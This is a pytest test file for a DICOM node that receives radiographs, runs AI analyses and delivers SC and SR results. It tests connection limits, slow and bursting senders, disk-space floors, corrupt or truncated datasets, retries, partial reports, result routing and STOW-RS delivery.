    monkeypatch.setattr(transport, "REQUEST_SECONDS", 1.0)
    with socket.create_connection(("127.0.0.1", node.settings.node.port)) as slow:
        slow.sendall(struct.pack(">BBL", 0x01, 0, 1000))
        started = time.monotonic()
        with pytest.raises(OSError):  # closed by the node
            while time.monotonic() - started < 10:
                slow.sendall(b"\0")
                time.sleep(0.25)
        assert time.monotonic() - started < 5
    assert "no whole association request within 1 s" in caplog.text
    assert node.send(make_radiograph(body_part="HANDX")) == [statuses.SUCCESS]


def test_one_address_cannot_hold_every_slot_with_connections_that_say_nothing(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """pynetdicom counts a connection against node.max_associations from its accept on:
    33 silent connections from one host kept every sender out. At most
    node.max_waiting_per_address of one address wait for their request; the rest are closed
    at once, and senders from other addresses go on."""
    import socket

    caplog.set_level(logging.WARNING)
    bounded = _on_a_port_of_its_own(node, max_waiting_per_address=2)
    server = start_scp(bounded, node.db)
    stranger = ("127.0.0.2", 0)
    try:
        held = [
            socket.create_connection(("127.0.0.1", bounded.node.port), source_address=stranger)
            for _ in range(2)
        ]
        deadline = time.monotonic() + 5
        while len(server.active_associations) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        with socket.create_connection(
            ("127.0.0.1", bounded.node.port), source_address=stranger
        ) as third:
            third.settimeout(5)
            assert third.recv(10) == b""  # closed at once
        ae = AE(ae_title=SENDER)
        ae.add_requested_context("1.2.840.10008.1.1")
        assoc = ae.associate("127.0.0.1", bounded.node.port, ae_title="DICOMNODE")
        assert assoc.is_established  # a sender from another address is served
        assoc.release()
        for connection in held:
            connection.close()
    finally:
        server.shutdown()
    assert "connections from 127.0.0.2 closed at once: 2 of its connections" in caplog.text


def test_a_burst_of_connections_from_one_address_is_bounded_too(node: Node) -> None:
    """Connections that arrive within milliseconds, before the threads of the first ones
    have made their associations, count against node.max_waiting_per_address as well."""
    import contextlib
    import socket

    bounded = _on_a_port_of_its_own(node, max_waiting_per_address=2)
    server = start_scp(bounded, node.db)
    stranger = ("127.0.0.2", 0)
    burst = [
        socket.create_connection(("127.0.0.1", bounded.node.port), source_address=stranger)
        for _ in range(12)
    ]
    try:
        closed = 0
        for connection in burst:
            connection.settimeout(1.5)
            with contextlib.suppress(TimeoutError):  # open: waiting to send its request
                closed += connection.recv(10) == b""
        assert closed == 10
    finally:
        for connection in burst:
            connection.close()
        server.shutdown()


def test_associations_one_after_another_from_one_address_are_never_turned_away(
    node: Node,
) -> None:
    """Finished associations no longer count as waiting ones (their count grew with each,
    and from the third on, with a bound of 2, every connection of the address was closed
    until the node restarted: a PACS, or the Docker health probe, locked out)."""
    from dicomnode.health import check_scp

    bounded = _on_a_port_of_its_own(node, max_waiting_per_address=2)
    server = start_scp(bounded, node.db)
    try:
        for _ in range(6):
            ae = AE(ae_title=SENDER)
            ae.add_requested_context("1.2.840.10008.1.1")
            assoc = ae.associate("127.0.0.1", bounded.node.port, ae_title="DICOMNODE")
            assert assoc.is_established
            assoc.release()
            assert check_scp(bounded).ok  # rejected associations end too
    finally:
        server.shutdown()


def test_a_node_below_its_free_space_floor_refuses_associations_for_now(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """Refused before the sender sends a byte, as transient: the sender keeps the study and
    retries later."""
    from dicomnode.testing.peers import free_port

    caplog.set_level(logging.WARNING)
    floor = {
        "storage": node.settings.storage.model_copy(update={"min_free_mb": 10**9}),
        "node": node.settings.node.model_copy(update={"port": free_port()}),
    }
    _assert_told_to_come_back_later(node.settings.model_copy(update=floor), node)
    assert "rejected (transient, temporary congestion)" in caplog.text
    assert "the floor is 1000000000 MiB" in caplog.text
    assert node.count(Association) == 0


def test_a_free_space_check_that_fails_rejects_and_the_health_probe_stays_quiet(
    node: Node, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A volume whose free space cannot be read refuses callers (pynetdicom lets an
    association through when the handler raises, past the caller-host check too); the
    health probe, rejected anyway, logs nothing while the disk is low."""
    from dicomnode.health import check_scp
    from dicomnode.receive import scp

    def stale(*_: object) -> None:
        raise OSError(116, "Stale file handle")

    caplog.set_level(logging.WARNING)
    monkeypatch.setattr(scp, "ensure_free_space", stale)
    ae = AE(ae_title=SENDER)
    ae.add_requested_context("1.2.840.10008.1.1")
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert assoc.is_rejected
    assert "free space of" in caplog.text and "cannot be read (OSError)" in caplog.text
    caplog.clear()
    assert check_scp(node.settings).ok
    assert caplog.text == ""


def test_a_disk_that_fills_during_an_association_refuses_with_a700_and_stores_nothing(
    node: Node, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dicomnode.errors import StorageFullError
    from dicomnode.receive import scp

    calls: list[int] = []

    def filling(*_: object) -> None:
        calls.append(1)
        if len(calls) > 1:  # the association was accepted; the first C-STORE finds it full
            raise StorageFullError("only 1 MiB would be free; the floor is 500 MiB")

    monkeypatch.setattr(scp, "ensure_free_space", filling)
    ae = AE(ae_title=SENDER)
    ae.add_requested_context("1.2.840.10008.5.1.4.1.1.1.1", ExplicitVRLittleEndian)
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert assoc.is_established
    status = int(assoc.send_c_store(make_radiograph()).Status)
    assoc.release()
    assert status == statuses.OUT_OF_RESOURCES
    assert node.count(Instance) == 0
    data = Path(node.settings.storage.data_dir)
    assert not [p for p in data.rglob("*") if p.is_file()]  # not even a temporary file


def test_one_association_over_the_limit_is_rejected_for_now_and_named(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """pynetdicom rejects it (transient, local limit exceeded); the log says so, and not
    that the caller is unknown."""

    caplog.set_level(logging.WARNING)
    narrow = _on_a_port_of_its_own(node, max_associations=1)
    server = start_scp(narrow, node.db)
    ae = AE(ae_title=SENDER)
    ae.add_requested_context("1.2.840.10008.1.1")
    try:
        first = ae.associate("127.0.0.1", narrow.node.port, ae_title="DICOMNODE")
        assert first.is_established
        second = ae.associate("127.0.0.1", narrow.node.port, ae_title="DICOMNODE")
        assert second.is_rejected
        rejection = second.acceptor.primitive
        assert rejection is not None
        assert (rejection.result, rejection.result_source, rejection.diagnostic) == (2, 3, 2)
        first.release()
    finally:
        server.shutdown()
    assert "node.max_associations (1)" in caplog.text
    assert "not a registered peer" not in caplog.text


def test_corrupt_dataset_gets_a_failure_status_and_nothing_stored(
    node: Node, tmp_path: Path
) -> None:
    good = write_dataset(make_radiograph(), tmp_path / "good.dcm")
    raw = bytearray(good.read_bytes())
    meta_end = 132 + 12 + int.from_bytes(raw[140:144], "little")
    raw[meta_end : meta_end + 64] = b"\xff" * 64  # garbage where the dataset starts
    bad = tmp_path / "bad.dcm"
    bad.write_bytes(bytes(raw))
    from pynetdicom import _config

    _config.STORE_SEND_CHUNKED_DATASET = True  # send the file's bytes as they are
    try:
        ae = AE(ae_title=SENDER)
        ae.add_requested_context("1.2.840.10008.5.1.4.1.1.1.1", ExplicitVRLittleEndian)
        assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
        status = assoc.send_c_store(bad)
        assoc.release()
    finally:
        _config.STORE_SEND_CHUNKED_DATASET = False
    assert 0xC000 <= int(status.Status) <= 0xCFFF
    assert node.count(Instance) == 0


@pytest.mark.parametrize("encapsulated", [False, True])
def test_a_dataset_cut_short_is_refused_and_a_whole_copy_is_then_stored(
    node: Node, tmp_path: Path, caplog: pytest.LogCaptureFixture, encapsulated: bool
) -> None:
    """A truncated file sent as it is parsed as far as its pixel data, so it was stored and
    acknowledged, failed every analysis, and the whole copy sent again was a duplicate."""
    from pydicom.uid import RLELossless
    from pynetdicom import _config

    caplog.set_level(logging.WARNING)
    image = make_radiograph(body_part="HANDX", rows=256, columns=256)
    syntax = ExplicitVRLittleEndian
    if encapsulated:
        image.compress(RLELossless)
        syntax = RLELossless
    good = write_dataset(image, tmp_path / "good.dcm")
    cut = tmp_path / "cut.dcm"
    cut.write_bytes(good.read_bytes()[: good.stat().st_size * 2 // 3])
    _config.STORE_SEND_CHUNKED_DATASET = True  # send the file's bytes as they are
    try:
        ae = AE(ae_title=SENDER)
        ae.add_requested_context(image.SOPClassUID, syntax)
        assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
        refused = int(assoc.send_c_store(cut).Status)
        stored = int(assoc.send_c_store(good).Status)
        assoc.release()
    finally:
        _config.STORE_SEND_CHUNKED_DATASET = False
    assert (refused, stored) == (statuses.CANNOT_UNDERSTAND, statuses.SUCCESS)
    assert "the dataset is incomplete" in caplog.text
    assert "duplicate" not in caplog.text
    assert node.count(Instance) == 1


def test_a_copy_with_other_content_under_a_stored_uid_is_kept_out_and_named(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """A correction sent under the old SOP Instance UID was acknowledged as a plain
    duplicate: the results of the first image stood, and nothing said so."""
    caplog.set_level(logging.INFO)
    image = make_radiograph(body_part="HANDX", rows=128, columns=128)
    assert node.send(image) == [statuses.SUCCESS]
    assert node.send(image) == [statuses.SUCCESS]  # the same again: a plain duplicate
    forwarded = image.copy()
    forwarded.PatientID = "COERCED-BY-PACS"  # a PACS forwarding it may change the header
    assert node.send(forwarded) == [statuses.SUCCESS]
    assert "other pixel data" not in caplog.text
    corrected = image.copy()
    corrected.PixelData = bytes(len(image.PixelData))
    assert node.send(corrected) == [statuses.SUCCESS]
    assert f"sop={image.SOPInstanceUID} was sent again with other pixel data" in caplog.text
    assert "dicomnode forget STUDY_UID" in caplog.text
    assert node.count(Instance) == 1


def test_each_association_is_logged_and_an_abort_is_a_warning(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """An aborted association was invisible: its study was reported as it was, with no line
    saying that the sender broke off."""
    caplog.set_level(logging.INFO)
    images = [make_radiograph(body_part="HANDX", rows=64, columns=64) for _ in range(3)]
    assoc = node.associate(*images)
    assert all(int(assoc.send_c_store(image).Status) == 0 for image in images[:2])
    assoc.abort()
    wait_for(lambda: "aborted after 2 instance(s) stored" in caplog.text, timeout=10)
    assert node.send(images[2]) == [statuses.SUCCESS]
    wait_for(lambda: "released: 1 instance(s) stored" in caplog.text, timeout=10)
    accepted = [r for r in caplog.records if r.getMessage().endswith(" accepted")]
    assert len(accepted) == 2 and all(f"AE '{SENDER}'" in r.getMessage() for r in accepted)
    aborted = [r for r in caplog.records if "aborted after" in r.getMessage()]
    assert [r.levelno for r in aborted] == [logging.WARNING]


def test_missing_study_uid_is_refused(node: Node) -> None:
    image = make_radiograph()
    del image.StudyInstanceUID
    assert 0xC000 <= node.send(image)[0] <= 0xCFFF
    assert node.count(Instance) == 0


def test_dead_destination_gets_results_once_it_is_back(node: Node) -> None:
    port = node.collector.port
    # keep trying however slow the machine: many attempts, short waits
    send = node.worker.settings.send.model_copy(update={"max_attempts": 100})
    node.worker.settings = node.worker.settings.model_copy(update={"send": send})
    node.worker.send_policy = RetryPolicy(100, 0.2, 1.0)
    node.collector.stop()
    node.send(make_radiograph(body_part="KNEE"))
    wait_for(lambda: node.count(Job, kind="send", state="failed") >= 1, 60, what="a failed send")
    node.collector = CollectingSCP(ae_title="PACS", port=port).start()
    wait_for(
        lambda: len(node.collector.received) >= 2, 60, what="delivery after the peer came back"
    )
    wait_for(
        lambda: node.count(Job, kind="send", state="done") == 2, 30, what="sends recorded as done"
    )
    assert node.count(Output) == 2


def test_refusing_destination_ends_dead_with_the_reason_then_retry_delivers(node: Node) -> None:
    from dicomnode.queue.jobs import requeue

    node.collector.status = 0xA700  # the peer answers "out of resources" to every C-STORE
    node.worker.send_policy = RetryPolicy(2, 0.1, 0.2)
    node.send(make_radiograph(body_part="KNEE"))
    wait_for(lambda: node.count(Job, kind="send", state="dead") == 2, 60, what="dead send jobs")
    with node.db.session() as s:
        errors = {j.last_error for j in s.execute(select(Job).where(Job.kind == "send")).scalars()}
        attempts = {j.attempts for j in s.execute(select(Job).where(Job.kind == "send")).scalars()}
    assert errors == {"peer returned status 0xA700"}
    assert attempts == {2}
    node.collector.status = 0x0000
    with node.db.session() as s:
        assert requeue(s) == 2
    wait_for(lambda: len(node.collector.received) == 2, 60, what="delivery after retry")


def test_a_non_conformant_birth_date_still_gets_a_valid_sc_and_sr(
    node: Node, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Archives hold birth dates like 00000000: the study is analysed, the results conform."""
    caplog.set_level(logging.DEBUG)
    image = make_radiograph(body_part="KNEE")
    image.PatientBirthDate = "19650100"
    assert node.send(image) == [statuses.SUCCESS]
    wait_for(lambda: len(node.collector.received) >= 2, 60, what="SC and SR at the destination")
    for ds in node.collector.received:
        assert ds.PatientBirthDate == ""
        path = tmp_path / f"{ds.SOPInstanceUID}.dcm"
        ds.save_as(path, enforce_file_format=True)
        assert dciodvfy_errors(path) == []
    assert "19650100" not in caplog.text


def _study_of_two_with_one_failing(
    node: Node, monkeypatch: pytest.MonkeyPatch, failing: int
) -> tuple[Dataset, Dataset]:
    """Two knee images of one study; the overlay of image ``failing`` cannot be encoded,
    and a failed job is dead at once."""
    from dicomnode import pipeline
    from dicomnode.errors import EncodeError

    node.worker.job_policy = RetryPolicy(1, 0.1, 0.1)
    images = make_radiograph(body_part="KNEE", seed=1), make_radiograph(body_part="KNEE")
    images[1].StudyInstanceUID = images[0].StudyInstanceUID
    real, bad = pipeline.make_sc, images[failing].SOPInstanceUID

    def failing_for_one(analysed: pipeline.Analysed, **kwargs: object) -> Dataset:
        if analysed.prepared.sop_uid == bad:
            raise EncodeError("cannot encode the Secondary Capture image: injected")
        return real(analysed, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(pipeline, "make_sc", failing_for_one)
    return images


def test_one_image_that_cannot_be_encoded_fails_alone_not_its_batch(
    node: Node, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second = _study_of_two_with_one_failing(node, monkeypatch, failing=0)
    assert node.send(first, second) == [statuses.SUCCESS] * 2
    wait_for(lambda: node.count(Job, kind="infer", state="dead") == 1, 60, what="one dead job")
    wait_for(lambda: node.count(Job, kind="infer", state="done") == 1, 60, what="the other done")
    with node.db.session() as s:
        dead = s.execute(select(Job).where(Job.state == "dead")).scalar_one()
    assert dead.sop_instance_uid == first.SOPInstanceUID
    assert dead.last_error == "cannot encode the Secondary Capture image: injected"


def test_a_report_that_leaves_an_image_out_says_so_and_a_retry_sends_a_complete_one(
    node: Node, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from dicomnode import pipeline

    real = pipeline.make_sc
    first, second = _study_of_two_with_one_failing(node, monkeypatch, failing=1)
    node.send(first, second)
    wait_for(lambda: _srs(node) == 1, 60, what="the first SR")
    (partial,) = [d for d in node.collector.received if d.Modality == "SR"]
    assert partial.CompletionFlag == "PARTIAL"
    partial.save_as(tmp_path / "partial.dcm", enforce_file_format=True)
    assert dciodvfy_errors(tmp_path / "partial.dcm") == []
    assert any(t.startswith("INCOMPLETE: 1 image of this study") for t in _texts(partial))
    assert pipeline.ANALYSIS_FAILED in _texts(partial)  # the image is named, Not assessed
    assert second.SOPInstanceUID in str(partial.CurrentRequestedProcedureEvidenceSequence)
    assert "injected" not in str(partial)  # the job's technical error stays in the node

    complete = _report_after_retry(node, monkeypatch, real, dead=1)
    assert not any("INCOMPLETE" in t for t in _texts(complete))
    evidence = str(complete.CurrentRequestedProcedureEvidenceSequence)
    assert first.SOPInstanceUID in evidence and second.SOPInstanceUID in evidence
    predecessor = complete.PredecessorDocumentsSequence[0].ReferencedSeriesSequence[0]
    assert predecessor.ReferencedSOPSequence[0].ReferencedSOPInstanceUID == partial.SOPInstanceUID


def test_a_study_whose_every_analysis_died_gets_an_sr_that_says_so(
    node: Node, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The reader is not left waiting for an AI result that never comes: the SR names each
    image "Not assessed" because the analysis failed, flagged PARTIAL, and no overlay. The
    node's log says so too."""
    from dicomnode import pipeline
    from dicomnode.errors import EncodeError

    caplog.set_level(logging.INFO, logger="dicomnode.worker")
    node.worker.job_policy = RetryPolicy(1, 0.1, 0.1)
    real = pipeline.make_sc

    def failing(analysed: pipeline.Analysed, **kwargs: object) -> Dataset:
        raise EncodeError("cannot encode the Secondary Capture image: injected")

    monkeypatch.setattr(pipeline, "make_sc", failing)
    first = make_radiograph(body_part="KNEE", seed=21)
    second = make_radiograph(body_part="KNEE", seed=22, study_uid=first.StudyInstanceUID)
    assert node.send(first, second) == [statuses.SUCCESS] * 2
    wait_for(lambda: _srs(node) == 1, 60, what="the SR of a study whose analyses died")
    assert [d.Modality for d in node.collector.received] == ["SR"]
    sr = node.collector.received[0]
    assert sr.CompletionFlag == "PARTIAL"
    texts = _texts(sr)
    assert any(t.startswith("INCOMPLETE: 2 images of this study") for t in texts)
    assert texts.count(pipeline.ANALYSIS_FAILED) == 2
    evidence = str(sr.CurrentRequestedProcedureEvidenceSequence)
    assert first.SOPInstanceUID in evidence and second.SOPInstanceUID in evidence
    sr.save_as(tmp_path / "sr.dcm", enforce_file_format=True)
    assert dciodvfy_errors(tmp_path / "sr.dcm") == []
    with node.db.session() as s:
        assert {r.state for r in s.scalars(select(Report))} == {"done"}
    assert f"SR {sr.SOPInstanceUID} PARTIAL (2 image(s) not analysed)" in caplog.text

    complete = _report_after_retry(node, monkeypatch, real, dead=2)
    assert pipeline.ANALYSIS_FAILED not in _texts(complete)
    assert f"SR {complete.SOPInstanceUID} COMPLETE" in caplog.text
    assert [d.Modality for d in node.collector.received].count("OT") == 2


def test_a_models_route_sends_its_results_to_its_peers_and_an_empty_one_keeps_them(
    node: Node,
) -> None:
    """``results.routes``: the model's results go to its route's peers instead of
    ``results.destinations``; an empty route (a model run in shadow mode) sends them nowhere:
    they stay in the data folder, `dicomnode study` says so, and retention purges the study
    (test_retention: results that found no destination keep theirs)."""
    from dicomnode.history import KEPT_HERE, study_history

    archive = CollectingSCP(ae_title="ARCHIVE").start()
    try:
        with node.db.session() as s:
            add_peer(s, PeerInfo("ARCHIVE", "ARCHIVE", "127.0.0.1", archive.port))
        _route(node, {"tiny-knee": ("ARCHIVE",)})
        assert node.send(make_radiograph(body_part="KNEE", seed=31)) == [statuses.SUCCESS]
        wait_for(lambda: len(archive.received) == 2, 60, what="the SC and SR at ARCHIVE")
        assert sorted(d.Modality for d in archive.received) == ["OT", "SR"]

        _route(node, {"tiny-knee": ()})
        shadow = make_radiograph(body_part="KNEE", seed=32)
        assert node.send(shadow) == [statuses.SUCCESS]
        wait_for(
            lambda: (
                node.count(Report, study_instance_uid=shadow.StudyInstanceUID, state="kept") == 1
            ),
            60,
            what="the shadow study's report",
        )
        with node.db.session() as s:
            kept = s.scalars(
                select(Output.path)
                .join(Report, Report.id == Output.report_id)
                .where(Report.study_instance_uid == shadow.StudyInstanceUID)
            ).all()
        assert len(kept) == 2 and all(Path(path).is_file() for path in kept)
        time.sleep(1.0)  # a send queued by mistake would be under way by now
        assert node.count(Job, kind="send") == 2  # the routed study's two, none for the shadow
        assert len(archive.received) == 2
        assert node.collector.received == []  # results.destinations got nothing
        with node.db.session() as s:
            history = study_history(s, shadow.StudyInstanceUID)
        assert history is not None
        assert [send.sending for send in history.sends] == [KEPT_HERE, KEPT_HERE]

        later = utcnow() + timedelta(days=node.settings.storage.retention_days + 1)
        purged = purge_expired(node.db, node.settings.storage.retention_days, now=later)
        assert str(shadow.StudyInstanceUID) in purged.studies
    finally:
        archive.stop()


def test_a_dicomweb_peer_gets_the_results_by_stow_rs_and_a_refusal_is_retried(
    node: Node, tmp_path: Path
) -> None:
    """A peer with a ``dicomweb`` URL: the round's SC and SR go to its service by STOW-RS
    (the SR after the SC), with the token of its auth file; while the service refuses the
    token (401), the sends wait and are retried, and deliver once the token is renewed;
    nothing goes by C-STORE."""
    from dicomnode.history import study_history
    from dicomnode.testing.peers import StowService

    auth = tmp_path / "web.auth"
    auth.write_text("Bearer old\n")
    service = StowService(authorization="Bearer new").start()
    try:
        with node.db.session() as s:
            web = PeerInfo(
                "WEB", "WEBPACS", "127.0.0.1", 1, dicomweb=service.url, dicomweb_auth_file=str(auth)
            )
            add_peer(s, web)
        _route(node, {"tiny-knee": ("WEB",)})
        image = make_radiograph(body_part="KNEE", seed=51)
        assert node.send(image) == [statuses.SUCCESS]
        wait_for(lambda: node.count(Job, kind="send", state="failed") >= 1, 60, what="a 401")
        with node.db.session() as s:
            errors = s.scalars(select(Job.last_error).where(Job.kind == "send")).all()
        assert any("HTTP 401" in (e or "") for e in errors) and service.received == []
        auth.write_text("Bearer new\n")
        wait_for(lambda: len(service.received) == 2, 60, what="the SC and SR by STOW-RS")
        assert [d.Modality for d in service.received] == ["OT", "SR"]
        assert all(d.StudyInstanceUID == image.StudyInstanceUID for d in service.received)
        wait_for(lambda: node.count(Job, kind="send", state="done") == 2, 30, what="sends done")
        with node.db.session() as s:
            history = study_history(s, str(image.StudyInstanceUID))
        assert history is not None and {send.peer for send in history.sends} == {"WEB"}
        assert node.collector.received == []  # nothing by C-STORE
    finally:
        service.stop()


def _route(node: Node, routes: dict[str, tuple[str, ...]]) -> None:
    """Give ``node``'s worker these ``results.routes``."""
    results = node.worker.settings.results.model_copy(update={"routes": routes})
    node.worker.settings = node.worker.settings.model_copy(update={"results": results})


def _report_after_retry(
    node: Node, monkeypatch: pytest.MonkeyPatch, make_sc: object, dead: int
) -> Dataset:
    """Mend the overlay encoder and retry the ``dead`` analyses: the second round's SR,
    which is COMPLETE."""
    from dicomnode import pipeline
    from dicomnode.studies import retry_dead_jobs

    monkeypatch.setattr(pipeline, "make_sc", make_sc)
    with node.db.session() as s:
        assert retry_dead_jobs(s) == dead
    wait_for(lambda: _srs(node) == 2, 60, what="the report after the retry")
    complete = [d for d in node.collector.received if d.Modality == "SR"][-1]
    assert complete.CompletionFlag == "COMPLETE"
    return complete


def _texts(sr: Dataset) -> list[str]:
    def walk(items: list[Dataset]) -> Iterator[Dataset]:
        for item in items:
            yield item
            yield from walk(item.get("ContentSequence", []))

    return [str(i.TextValue) for i in walk(sr.ContentSequence) if "TextValue" in i]


def _srs(node: Node) -> int:
    return sum(1 for d in node.collector.received if d.Modality == "SR")


def _infer_job(node: Node) -> tuple[str, int]:
    with node.db.session() as s:
        job = s.execute(select(Job).where(Job.kind == "infer")).scalar_one()
        return str(job.state), int(job.attempts)


def test_results_wait_for_disk_space_without_using_up_attempts(
    node: Node, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Below the floor no result is written and nothing is charged; a write that meets a
    full disk is postponed, uncharged; with space again the study completes."""
    from dicomnode import worker
    from dicomnode.errors import StorageFullError
    from dicomnode.store import files

    def full(*_args: object, **_kwargs: object) -> None:
        raise StorageFullError("only 3 MiB would be free; the floor is 500 MiB")

    monkeypatch.setattr(worker, "ensure_free_space", full)
    assert node.send(make_radiograph(body_part="KNEE")) == [statuses.SUCCESS]
    wait_for(lambda: node.count(Job, kind="infer") == 1, 30, what="the infer job")
    time.sleep(1.0)  # several worker polls
    assert _infer_job(node) == ("queued", 0)
    monkeypatch.undo()
    writes: list[Path] = []
    real_write = files.write_durably  # the function worker imported

    def full_once(path: Path, data: bytes) -> None:
        writes.append(path)
        if len(writes) == 1:
            raise StorageFullError("No space left on device")
        real_write(path, data)

    monkeypatch.setattr("dicomnode.worker.write_durably", full_once)
    monkeypatch.setattr(worker, "DISK_FULL_PAUSE", 0.3)
    wait_for(lambda: len(node.collector.received) >= 2, 60, what="SC and SR after the full disk")
    with node.db.session() as s:
        job = s.execute(select(Job).where(Job.kind == "infer")).scalar_one()
        assert (job.state, job.attempts) == ("done", 1)  # the postponed attempt is not counted
    assert writes[0] == writes[1]  # the overlay that met the full disk, written again


def test_a_stopping_worker_gives_back_the_jobs_it_has_not_analysed(
    node: Node, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SIGTERM mid-batch: the worker stops after the image at hand; the others of its
    batch go back to the queue, their attempts not counted, and the next step runs them."""
    from dicomnode import pipeline
    from dicomnode.studies import schedule_ready

    node.pause()  # drive the scheduler and the worker by hand
    first = make_radiograph(body_part="KNEE")
    second = make_radiograph(body_part="KNEE", study_uid=first.StudyInstanceUID)
    assert node.send(first, second) == [statuses.SUCCESS] * 2
    wait_for(
        lambda: (
            bool(schedule_ready(node.db, node.settings, node.worker.registry))
            or node.count(Job, kind="infer") == 2
        ),
        30,
        what="two infer jobs",
    )
    real = pipeline.read_and_prepare  # the module worker calls
    prepared: list[Path] = []

    def stop_after_the_first(path: Path) -> object:
        prepared.append(path)
        node.worker.stop.set()  # SIGTERM arrives while the first image is read
        return real(path)

    monkeypatch.setattr(pipeline, "read_and_prepare", stop_after_the_first)
    assert node.worker.step()
    assert len(prepared) == 1
    with node.db.session() as s:
        jobs = s.execute(select(Job).where(Job.kind == "infer")).scalars().all()
        assert sorted((j.state, j.attempts) for j in jobs) == [("failed", 0), ("failed", 0)]
    node.worker.stop.clear()
    monkeypatch.undo()
    assert node.worker.step()
    with node.db.session() as s:
        jobs = s.execute(select(Job).where(Job.kind == "infer")).scalars().all()
        assert sorted((j.state, j.attempts) for j in jobs) == [("done", 1), ("done", 1)]
